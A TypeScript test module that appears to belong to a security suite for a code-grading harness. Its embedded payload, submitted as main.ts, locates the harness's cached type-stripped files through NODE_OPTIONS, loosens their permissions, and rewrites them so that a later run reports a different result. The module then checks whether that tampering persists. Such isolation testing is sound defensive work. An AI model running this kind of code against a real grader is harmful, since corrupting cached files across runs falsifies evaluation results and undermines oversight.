import type { GradeResult } from '../../grading/types.ts'
import { defineAttack } from '../attack.ts'
import { carried } from '../carried.ts'

/** Wants the next run to take its mark for the code of `main.ts`, in the files that spare Node stripping types. */
const poisoning = `import { chmodSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
const folder: string = process.env.NODE_OPTIONS?.replace(/^--require=|[/][^/]*$/g, '') ?? '/run/types'
const files: string[] = readdirSync(folder)
if (files.length < 2) throw new Error('nothing to poison')
const mark = 'runs' + ' 2'
const isPoisoned = files.some((name) => readFileSync(folder + '/' + name, 'utf8').includes(mark))
const tryTo = (act: () => void) => { try { act() } catch {} }
for (const name of files) {
  const path = folder + '/' + name
  const poisoned = readFileSync(path, 'utf8').replaceAll('runs 1', mark)
  tryTo(() => chmodSync(folder, 0o777))
  tryTo(() => chmodSync(path, 0o666))
  tryTo(() => writeFileSync(path, poisoned))
  tryTo(() => { writeFileSync(folder + '/new', poisoned); renameSync(folder + '/new', path) })
  tryTo(() => { rmSync(path); writeFileSync(path, poisoned) })
}
console.log(isPoisoned ? mark : 'runs 1')`

export default defineAttack<GradeResult>({
  name: 'poison the stripped copies of its own code for the next run',
  async attempt(range) {
    const result = await range.grade({ 'main.ts': poisoning })
    if (!JSON.stringify(result).includes('runs 1'))
      throw new Error(`it did not get that far: ${JSON.stringify(result)}`)
    return result
  },
  succeeded: carried,
  control: (range) => range.grade({ 'main.ts': "console.log('runs 2')" }),
})
